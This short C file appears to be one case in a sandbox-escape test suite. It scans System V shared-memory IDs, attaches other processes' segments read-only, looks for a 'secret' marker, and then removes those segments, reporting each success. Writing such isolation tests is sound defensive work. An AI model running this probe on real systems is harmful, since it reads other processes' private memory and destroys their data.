/* System V's objects of other processes are found by their numbers, and read or removed. */
#include "attack.h"
#include <sys/shm.h>

static void attack(void)
{
    struct shmid_ds about;
    for (int i = 0; i < 4096; i++) {
        const int id = shmctl(i, SHM_STAT, &about);
        if (id < 0)
            continue;
        const char *memory = shmat(id, NULL, SHM_RDONLY);
        if (memory != (void *)-1 && strncmp(memory, "secret", 6) == 0)
            achieved("read another process's memory of System V");
        if (memory != (void *)-1 && strncmp(memory, "secret", 6) == 0 && shmctl(id, IPC_RMID, NULL) == 0)
            achieved("removed it");
    }
}
